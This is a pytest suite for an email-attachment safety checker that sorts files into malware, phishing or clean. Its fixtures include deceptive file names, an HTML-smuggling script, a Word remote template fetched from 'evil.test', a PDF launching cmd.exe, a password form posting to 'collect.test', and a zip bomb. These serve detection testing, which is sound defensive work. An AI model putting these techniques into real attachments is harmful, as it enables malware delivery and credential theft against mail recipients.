"""What hangs on a reply and runs is told under every name and within every wrapping; what people send is not."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile

import pytest

from mailback.message import Message, parse
from mailback.reply import safety
from mailback.reply.safety import Safety, Said, Verdict

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 128) + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog /OpenAction 2 0 R>> endobj\n%%EOF\n"


def gzipped(content: bytes) -> bytes:
    """The same octets each time: test names are made of them, and every test process must make the same."""
    return gzip.compress(content, mtime=0)


def zipped(*members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


def locked(archive: bytes) -> bytes:
    """The same archive with every member marked as encrypted, as the directory of an encrypted one is."""
    changed = bytearray(archive)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def tarred(*members: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def document(*more: tuple[str, bytes]) -> bytes:
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), *more)


def rar(name: bytes) -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + b"\x12\x34\x56\x78\x0b\x01\x05\x07\x00" + b"\0" * 20 + name + b"\0" * 40


def iso(name: bytes) -> bytes:
    return b"\0" * 0x8000 + b"\x01CD001\x01" + b"\0" * 2000 + name + b";1" + b"\0" * 100


def mail(filename: str, content: bytes, kind: str = "application/octet-stream", text: str = "See attached.") -> Message:
    quoted = "".join(f"%{octet:02X}" for octet in filename.encode())
    head = (
        "From: jo@far.example\r\nTo: ada@milltown.example\r\nIn-Reply-To: <1@milltown.example>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--b\r\nContent-Type: {kind}\r\n"
        f"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename*=utf-8''{quoted}\r\n\r\n"
    )
    return parse(head.encode() + base64.encodebytes(content) + b"\r\n--b--\r\n")


def told(filename: str, content: bytes = b"x", kind: str = "application/octet-stream", text: str = "") -> Safety:
    return safety.assess(mail(filename, content, kind, text), said=Said(text))


SMUGGLED = (
    b"<html><script>var d=atob('TVqQAAMAAAAEAAAA');var b=new Blob([d]);var u=URL.createObjectURL(b);"
    b"var a=document.createElement('a');a.href=u;a.download='invoice.zip';a.click();</script></html>"
)
LOGIN = b"<html><form action='https://collect.test'><input type='text'><input type=\"password\"></form></html>"


@pytest.mark.parametrize(
    ("filename", "content", "sign"),
    [
        ("invoice.exe", b"x", "executable_attachment"),
        ("INVOICE.PDF.EXE", b"x", "double_extension"),
        ("invoice.pdf        .scr", b"x", "double_extension"),
        ("invoice.pdf.js.", b"x", "double_extension"),
        ("invoice.\uff45\uff58\uff45", b"x", "executable_attachment"),
        ("invoice_\u202efdp.exe", b"x", "reversed_name"),
        ("annexe\u202excod.scr", b"x", "reversed_name"),
        ("scan.e\u200bxe", b"x", "executable_attachment"),
        ("report.one", b"x", "macro_attachment"),
        ("update.iso", b"x", "disk_image"),
        ("photos.img", b"x", "disk_image"),
        ("order.vhdx", b"x", "disk_image"),
        ("order.ace", b"x", "rare_archive"),
        ("order.exe.gz", b"x", "executable_attachment"),
        ("shortcut.lnk", b"x", "executable_attachment"),
        ("letter.pdf", PE, "executable_content"),
        ("photo.jpg", b"\x7fELF" + b"\0" * 60, "executable_content"),
        ("letter.txt", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, "shortcut"),
        ("document", iso(b"SETUP.EXE"), "disk_image"),
        ("letter.doc", OLE + "_VBA_PROJECT".encode("utf-16-le"), "macro_attachment"),
        ("sheet.xls", OLE + b"\0" * 9 + "_VBA_PROJECT_CUR".encode("utf-16-le"), "macro_attachment"),
        ("letter.doc", OLE + "\x01Ole10Native".encode("utf-16-le"), "embedded_object"),
        ("letter.docx", document(("word/vbaProject.bin", b"x")), "macro_attachment"),
        ("letter.docm", document(), "macro_attachment"),
        ("sheet.xlsx", document(("xl/macrosheets/sheet1.xml", b"x")), "macro_attachment"),
        (
            "letter.docx",
            document(
                (
                    "word/_rels/settings.xml.rels",
                    b'<Relationship Type="http://s/attachedTemplate" Target="https://evil.test/t.dotm"/>',
                )
            ),
            "remote_template",
        ),
        ("letter.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate}}", "embedded_object"),
        ("form.pdf", b"%PDF-1.4 <</S /Launch /F (cmd.exe)>>", "launching_document"),
        ("a.zip", zipped(("letter.js", b"x")), "executable_in_archive"),
        ("a.zip", zipped(("docs/letter.pdf.scr", b"x")), "double_extension"),
        ("a.zip", zipped(("docs\\letter.hta", b"x")), "executable_in_archive"),
        ("a.zip", zipped(("inner.zip", zipped(("letter.vbs", b"x")))), "executable_in_archive"),
        ("a.zip", zipped(("letter.pdf", PE)), "executable_in_archive"),
        ("a.zip", zipped(("disk.iso", b"x")), "disk_image"),
        ("a.zip", zipped(("letter.docx", document(("word/vbaProject.bin", b"x")))), "macro_attachment"),
        ("a.pdf", zipped(("letter.exe", b"x")), "executable_in_archive"),
        ("a.zip", locked(zipped(("letter.exe", b"x"))), "executable_in_archive"),
        ("a.zip", zipped(("META-INF/MANIFEST.MF", b"x"), ("a/Main.class", b"x")), "executable_content"),
        ("a.tar", tarred(("letter.exe", b"x")), "executable_in_archive"),
        ("a.tar.gz", gzipped(tarred(("letter.pdf", PE))), "executable_in_archive"),
        ("a.tgz", gzipped(tarred(("deep/er/letter.wsf", b"x"))), "executable_in_archive"),
        ("a.tar.bz2", bz2.compress(tarred(("letter.bat", b"x"))), "executable_in_archive"),
        ("a.tar.xz", lzma.compress(tarred(("letter.cmd", b"x"))), "executable_in_archive"),
        ("a.gz", gzipped(PE), "executable_in_archive"),
        ("a.rar", rar(b"invoice 7.exe"), "executable_in_archive"),
        ("a.bin", rar(b"invoice.pdf.js"), "executable_in_archive"),
        ("winmail.dat", b"\x78\x9f\x3e\x22" + b"\0" * 40 + b"setup.exe\0", "executable_in_archive"),
        ("page.html", SMUGGLED, "html_smuggling"),
        ("drawing.svg", b"<svg><script>" + SMUGGLED + b"</script></svg>", "html_smuggling"),
    ],
)  # fmt: skip
def test_what_runs_is_malware_under_every_name_and_wrapping(filename: str, content: bytes, sign: str) -> None:
    answer = told(filename, content)
    assert sign in answer.signals
    assert answer.verdict is Verdict.MALWARE


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("voicemail.htm", LOGIN),
        ("remittance.pdf.html", b"<html>see</html>"),
        ("invoice.html", b'<meta http-equiv="refresh" content="0; url=https://collect.test/">'),
    ],
)
def test_a_page_that_asks_for_a_password_or_leads_away_is_phishing(filename: str, content: bytes) -> None:
    assert told(filename, content).verdict is Verdict.PHISHING


def test_a_part_that_calls_itself_a_program_is_one() -> None:
    assert told("letter", b"x", "application/x-msdownload").verdict is Verdict.MALWARE


def test_an_encrypted_archive_that_brings_its_password_is_malware_where_nobody_can_look_into_it() -> None:
    archive = locked(zipped(("inner.zip", b"x")))
    assert told("a.zip", archive).verdict is Verdict.CLEAN
    assert told("a.zip", archive, text="The password is 4711.").verdict is Verdict.MALWARE
    assert told("a.zip", archive, text="パスワードは 4711 です").verdict is Verdict.MALWARE
    seven = b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 200 + b"\x24\x06\xf1\x07\x01\x0a" + b"\0" * 20
    assert told("a.7z", seven, text="Passwort: 4711").verdict is Verdict.MALWARE


def test_what_hangs_on_an_attached_message_hangs_on_this_one() -> None:
    inner = mail("a.exe", b"x").raw
    head = (
        b"From: jo@far.example\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n"
        b"--o\r\nContent-Type: text/plain\r\n\r\nFwd\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n"
    )
    assert safety.assess(parse(head + inner + b"\r\n--o--\r\n")).verdict is Verdict.MALWARE


SAVED_PAGE = (
    b"<html><head><script src='https://cdn.example/lib.js'></script></head><body onload='start()'>"
    + b"<p>Long article</p>" * 9000 + b"<script>window.location.hash</script></body></html>"
)  # fmt: skip


@pytest.mark.parametrize(
    ("filename", "content", "text"),
    [
        ("letter.docx", document(), ""),
        ("Budget 2026.v2.xlsx", document(("xl/embeddings/sheet.xlsx", document())), ""),
        ("slides.final.pptx", document(), ""),
        ("text.odt", zipped(("META-INF/manifest.xml", b"x"), ("content.xml", b"x")), ""),
        ("old.doc", OLE + "WordDocument".encode("utf-16-le"), ""),
        ("protected.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), ""),
        ("scan.pdf", PDF, ""),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 90, ""),
        ("screenshot 2026-05-04 at 10.31.22.png", PNG, ""),
        ("export.csv", b"MZ;Name\n1;Ada\n", ""),
        ("notes.txt", b"run setup.exe and tell me", ""),
        ("contract_v1.2.pdf", PDF, ""),
        ("smime.p7s", b"0\x80\x06\x09*\x86H\x86\xf7", ""),
        ("invite.ics", b"BEGIN:VCALENDAR", ""),
        ("ada.vcf", b"BEGIN:VCARD", ""),
        ("photos.zip", zipped(("a.jpg", b"\xff\xd8"), ("sub/b.png", PNG)), ""),
        ("docs.zip", zipped(("a.docx", document()), ("b.pdf", PDF)), ""),
        ("payslips.zip", locked(zipped(("payslip.pdf", PDF))), "The password is your date of birth."),
        ("logs.tar.gz", gzipped(tarred(("app.log", b"x"), ("deep/b.txt", b"x"))), ""),
        ("dump.sql.gz", gzipped(b"select 1"), ""),
        ("plans.rar", rar(b"plans/ground floor.pdf"), ""),
        ("drawing.svg", b"<svg><path d='M0 0'/></svg>", ""),
        ("article.html", SAVED_PAGE, ""),
        ("report.html", b"<html><body>table</body></html>", ""),
        ("message.eml", b"Subject: hello\r\n\r\nhi", ""),
        ("winmail.dat", b"\x78\x9f\x3e\x22" + b"\0" * 40 + b"plan.pdf\0", ""),
    ],
)  # fmt: skip
def test_what_people_send_is_clean(filename: str, content: bytes, text: str) -> None:
    assert told(filename, content, text=text).verdict is Verdict.CLEAN


def bomb() -> bytes:
    return zipped(("a.zip", zipped(("b.txt", b"\0" * 50_000_000))), ("c.txt", b"\0" * 50_000_000))


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04" + b"\xff" * 5000,
        zipped(("a.txt", b"x"))[:40],
        gzipped(b"\0" * 30_000_000)[:9000],
        gzipped(tarred(("a.txt", b"x" * 9000)))[:100],
        b"BZh9" + b"\0" * 1000,
        b"\xfd7zXZ\x00" + b"\xff" * 1000,
        b"\x1f\x8b\x08" + b"\xff" * 1000,
        b"\0" * 257 + b"ustar" + b"\xff" * 2000,
        b"Rar!\x1a\x07\x01\x00" + b".exe" * 3 + b"a.ex" * 100_000,
        OLE + b"_\0V\0B\0A" * 50_000,
        b"%PDF" + b"/Laun" * 100_000,
        b"{\\rtf" + b"\\obj" * 100_000,
        bomb(),
    ],
    ids=lambda content: repr(content[:6]),
)
@pytest.mark.parametrize("filename", ["a.zip", "a.html", "a"])
def test_damaged_and_hostile_content_raises_nothing(filename: str, content: bytes) -> None:
    assert safety.assess(mail(filename, content)).verdict in Verdict


@pytest.mark.parametrize(
    "piece",
    [b"<input ", b"<script>new ", b"http-equiv=refresh ", b"data:application/zip;", b"<a href=", b"location."],
)
def test_a_page_of_nothing_but_beginnings_is_read_to_its_end(piece: bytes) -> None:
    assert safety.assess(mail("a.html", piece * (300_000 // len(piece)))).verdict in Verdict
